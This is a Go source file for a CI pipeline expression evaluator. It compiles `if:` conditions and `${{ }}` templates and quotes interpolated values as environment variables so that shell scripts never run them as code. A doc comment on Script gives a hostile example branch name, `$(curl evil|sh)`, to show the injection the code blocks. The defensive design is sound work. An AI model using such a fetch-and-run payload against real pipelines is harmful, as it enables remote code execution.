// Package eval is the one evaluator for every `if:` condition and every
// `${{ ... }}` interpolation in a pipeline file, built on
// github.com/expr-lang/expr over a fixed, documented context.
//
// The context (see Context) holds branch, tag, event, commit, repo, matrix.*,
// env.* and needs.<job>.status, and the status functions success(),
// failure(), always() and cancelled(). A condition that calls none of the
// status functions is read as `success() && (condition)`, as users of GitHub
// Actions expect.
//
// A value interpolated into a shell script is never parsed by the shell as
// code: see Script. The package does no I/O.
package eval

import (
	"errors"
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"

	"github.com/expr-lang/expr"
	"github.com/expr-lang/expr/ast"
	"github.com/expr-lang/expr/file"
	"github.com/expr-lang/expr/parser"
	"github.com/expr-lang/expr/vm"
)

// Context is what an expression can see. A nil map reads as empty.
type Context struct {
	Branch string
	Tag    string
	Event  string
	Commit string
	Repo   string
	Matrix map[string]string
	Env    map[string]string
	// Needs maps each job this one needs to its final status
	// ("success", "failure", "skipped", "cancelled", "error").
	Needs map[string]string
	// Failed is true when something this condition depends on failed: a job
	// in needs (for a job condition) or an earlier step (for a step).
	Failed bool
	// Skipped is true when a job in needs was skipped: success() is then
	// false, but failure() is not true.
	Skipped bool
	// Cancelled is true when the run is being cancelled, or a job in needs
	// was.
	Cancelled bool
}

// Need is the value of needs.<job> in an expression.
type Need struct {
	Status string `expr:"status"`
}

// env is the typed expression environment, so that a misspelt name is a
// compile error with a position rather than a silent empty string.
type env struct {
	Branch    string            `expr:"branch"`
	Tag       string            `expr:"tag"`
	Event     string            `expr:"event"`
	Commit    string            `expr:"commit"`
	Repo      string            `expr:"repo"`
	Matrix    map[string]string `expr:"matrix"`
	Env       map[string]string `expr:"env"`
	Needs     map[string]Need   `expr:"needs"`
	Success   func() bool       `expr:"success"`
	Failure   func() bool       `expr:"failure"`
	Always    func() bool       `expr:"always"`
	Cancelled func() bool       `expr:"cancelled"`
}

func newEnv(c *Context) env {
	needs := make(map[string]Need, len(c.Needs))
	for k, v := range c.Needs {
		needs[k] = Need{Status: v}
	}
	return env{
		Branch: c.Branch, Tag: c.Tag, Event: c.Event, Commit: c.Commit, Repo: c.Repo,
		Matrix: orEmpty(c.Matrix), Env: orEmpty(c.Env), Needs: needs,
		Success:   func() bool { return !c.Failed && !c.Skipped && !c.Cancelled },
		Failure:   func() bool { return c.Failed && !c.Cancelled },
		Always:    func() bool { return true },
		Cancelled: func() bool { return c.Cancelled },
	}
}

func orEmpty(m map[string]string) map[string]string {
	if m == nil {
		return map[string]string{}
	}
	return m
}

// statusFuncs are the functions whose presence turns off the implicit success().
var statusFuncs = map[string]bool{"success": true, "failure": true, "always": true, "cancelled": true}

// Error is an expression that does not compile or cannot be evaluated. Col is
// the 1-based column, in characters, in the text as written (the condition
// with any ${{ }} around it, or the whole template), or 0 when unknown.
type Error struct {
	Expr string
	Col  int
	Msg  string
}

func (e *Error) Error() string {
	return fmt.Sprintf("expression %q: %s", e.Expr, e.Msg)
}

func compileErr(src string, err error) error {
	e := &Error{Expr: src}
	var fe *file.Error
	if errors.As(err, &fe) {
		e.Msg = fe.Message
		e.Col = fe.Column + 1
		return e
	}
	msg := err.Error()
	// expr's message spans lines (message, then a snippet); the first line is the sentence.
	if i := strings.IndexByte(msg, '\n'); i >= 0 {
		msg = msg[:i]
	}
	e.Msg = msg
	return e
}

// Condition is a compiled `if:` expression.
type Condition struct {
	src  string
	prog *vm.Program
}

// CompileCondition compiles an `if:` expression. It reports unknown names,
// type errors and syntax errors without evaluating anything.
func CompileCondition(text string) (*Condition, error) {
	src, off := unwrap(text)
	if src == "" {
		return nil, &Error{Expr: src, Msg: "empty condition"}
	}
	tree, err := parser.Parse(src)
	if err != nil {
		e := compileErr(src, err).(*Error)
		if e.Col > 0 {
			e.Col += off
		}
		return nil, e
	}
	full, shift := src, 0
	if !callsStatus(tree.Node) {
		const wrap = "success() && ("
		full, shift = wrap+src+")", len(wrap)
	}
	prog, err := expr.Compile(full, expr.Env(env{}), expr.AsBool())
	if err != nil {
		e := compileErr(src, err).(*Error)
		if e.Col > shift {
			e.Col -= shift - off
		} else {
			e.Col = 0
		}
		return nil, e
	}
	return &Condition{src: src, prog: prog}, nil
}

// unwrap lets a condition be written with or without ${{ }}. It returns the
// expression, trimmed, and how many characters of s stand before it.
func unwrap(s string) (string, int) {
	lead := len(s) - len(strings.TrimLeftFunc(s, unicode.IsSpace))
	t := strings.TrimSpace(s)
	if strings.HasPrefix(t, "${{") && strings.HasSuffix(t, "}}") && strings.Count(t, "${{") == 1 {
		inner := t[3 : len(t)-2]
		lead += 3 + len(inner) - len(strings.TrimLeftFunc(inner, unicode.IsSpace))
		t = strings.TrimSpace(inner)
	}
	return t, utf8.RuneCountInString(s[:lead])
}

type statusFinder struct{ found bool }

func (f *statusFinder) Visit(n *ast.Node) {
	if c, ok := (*n).(*ast.CallNode); ok {
		if id, ok := c.Callee.(*ast.IdentifierNode); ok && statusFuncs[id.Value] {
			f.found = true
		}
	}
}

func callsStatus(n ast.Node) bool {
	f := &statusFinder{}
	ast.Walk(&n, f)
	return f.found
}

// String returns the condition as written.
func (c *Condition) String() string { return c.src }

// Eval evaluates the condition in ctx.
func (c *Condition) Eval(ctx *Context) (bool, error) {
	out, err := expr.Run(c.prog, newEnv(ctx))
	if err != nil {
		return false, compileErr(c.src, err)
	}
	b, _ := out.(bool)
	return b, nil
}

// Template is a string with `${{ expr }}` parts.
type Template struct {
	parts []part
}

type part struct {
	lit  string
	src  string // expression text when prog != nil
	prog *vm.Program
	col  int // 1-based column of "${{" in the template
}

// CompileTemplate compiles every `${{ ... }}` in s. A string without any is
// returned as a constant template.
func CompileTemplate(s string) (*Template, error) {
	t := &Template{}
	rest, off := s, 0
	for {
		i := strings.Index(rest, "${{")
		if i < 0 {
			if rest != "" {
				t.parts = append(t.parts, part{lit: rest})
			}
			return t, nil
		}
		if i > 0 {
			t.parts = append(t.parts, part{lit: rest[:i]})
		}
		col := utf8.RuneCountInString(s[:off+i]) + 1
		j := strings.Index(rest[i:], "}}")
		if j < 0 {
			return nil, &Error{Expr: rest[i:], Col: col, Msg: "unterminated ${{: missing }}"}
		}
		src := strings.TrimSpace(rest[i+3 : i+j])
		if src == "" {
			return nil, &Error{Expr: rest[i : i+j+2], Col: col, Msg: "empty ${{ }}"}
		}
		prog, err := expr.Compile(src, expr.Env(env{}))
		if err != nil {
			e := compileErr(src, err).(*Error)
			e.Col = col
			return nil, e
		}
		t.parts = append(t.parts, part{src: src, prog: prog, col: col})
		rest = rest[i+j+2:]
		off += i + j + 2
	}
}

// IsConst reports whether the template has no expressions.
func (t *Template) IsConst() bool {
	for _, p := range t.parts {
		if p.prog != nil {
			return false
		}
	}
	return true
}

func (p part) eval(ctx *Context) (string, error) {
	out, err := expr.Run(p.prog, newEnv(ctx))
	if err != nil {
		e := compileErr(p.src, err).(*Error)
		e.Col = p.col
		return "", e
	}
	switch v := out.(type) {
	case nil:
		return "", nil
	case string:
		return v, nil
	default:
		return fmt.Sprint(v), nil
	}
}

// String evaluates the template as plain text (for env values and image names).
func (t *Template) String(ctx *Context) (string, error) {
	var b strings.Builder
	for _, p := range t.parts {
		if p.prog == nil {
			b.WriteString(p.lit)
			continue
		}
		v, err := p.eval(ctx)
		if err != nil {
			return "", err
		}
		b.WriteString(v)
	}
	return b.String(), nil
}

// Script evaluates a template that is a shell script without ever letting
// the shell parse an interpolated value as code. Each `${{ expr }}` becomes a
// reference to an environment variable named prefix + N, whose value is
// returned in vars; the reference is quoted to fit where it stands: "$V"
// outside quotes, ${V} inside double quotes, and '"$V"' (closing and
// reopening the quote) inside single quotes. A branch name such as
// `$(curl evil|sh)` from a fork is then only ever data.
func (t *Template) Script(ctx *Context, prefix string) (script string, vars []string, err error) {
	if t.IsConst() {
		var b strings.Builder
		for _, p := range t.parts {
			b.WriteString(p.lit)
		}
		return b.String(), nil, nil
	}
	var b strings.Builder
	var q quoteState
	n := 0
	for _, p := range t.parts {
		if p.prog == nil {
			b.WriteString(p.lit)
			q.scan(p.lit)
			continue
		}
		v, err := p.eval(ctx)
		if err != nil {
			return "", nil, err
		}
		n++
		name := fmt.Sprintf("%s%d", prefix, n)
		vars = append(vars, name+"="+v)
		switch q.state {
		case inDouble:
			b.WriteString("${" + name + "}")
		case inSingle:
			b.WriteString(`'"$` + name + `"'`)
		default:
			b.WriteString(`"$` + name + `"`)
			q.word = true
		}
	}
	return b.String(), vars, nil
}

const (
	outside = iota
	inSingle
	inDouble
	inComment
)

// quoteState follows POSIX shell quoting well enough to know whether the next
// character stands outside quotes, in single quotes, in double quotes or in a
// comment (where an apostrophe, as in "# don't", opens nothing). It does not
// follow here-documents: there a reference reads as "$V" with its quotes
// visible, which is wrong to look at but still safe.
type quoteState struct {
	state  int
	escape bool
	// word is true when the last character outside quotes belongs to a
	// word, so that a # next to it does not start a comment.
	word bool
}

func (q *quoteState) scan(s string) {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if q.escape {
			q.escape = false
			continue
		}
		switch q.state {
		case outside:
			switch c {
			case '\\':
				q.escape, q.word = true, true
			case '\'':
				q.state, q.word = inSingle, true
			case '"':
				q.state, q.word = inDouble, true
			case '#':
				if !q.word {
					q.state = inComment
				}
			case ' ', '\t', '\n', ';', '&', '|', '(', ')', '<', '>':
				q.word = false
			default:
				q.word = true
			}
		case inComment:
			if c == '\n' {
				q.state, q.word = outside, false
			}
		case inSingle:
			if c == '\'' {
				q.state = outside
			}
		case inDouble:
			switch c {
			case '\\':
				q.escape = true
			case '"':
				q.state = outside
			}
		}
	}
}
